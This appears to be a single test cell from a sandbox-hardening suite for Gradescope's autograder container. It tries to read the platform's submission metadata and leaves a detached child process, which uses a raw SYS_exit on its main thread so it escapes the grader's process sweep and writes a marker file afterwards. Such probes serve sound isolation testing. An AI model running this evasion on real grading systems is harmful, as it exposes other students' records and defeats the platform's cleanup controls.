# Attack, inside Gradescope's container: read the platform's own record of the submission (earlier results,
# e-mails), then leave a process whose main thread leaves by a raw SYS_exit while another thread runs on: it
# shows as a zombie in /proc, and a sweep that walks the process tree past zombies misses it. Reading the
# record costs batch-sweep, so a full score says it was closed to the kernel.
# %% id=extra-outlives
import subprocess
import sys
import time

try:
    with open("__METADATA__") as handle:
        handle.read()
    seen = "read"
except OSError as err:
    seen = f"refused {err.errno}"
print("metadata", seen)
if seen == "read":
    sweep = None
outlive = """
import ctypes, platform, threading, time
def later():
    time.sleep(__HOLD__)
    open('__MARK_FILE__', 'w').write('outlived the grade')
threading.Thread(target=later).start()
time.sleep(0.05)
ctypes.CDLL(None).syscall({'aarch64': 93}.get(platform.machine(), 60), 0)  # SYS_exit: this thread alone
"""
subprocess.Popen([sys.executable, "-c", outlive], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(1)  # until its leader is gone: then only a sweep by user finds it
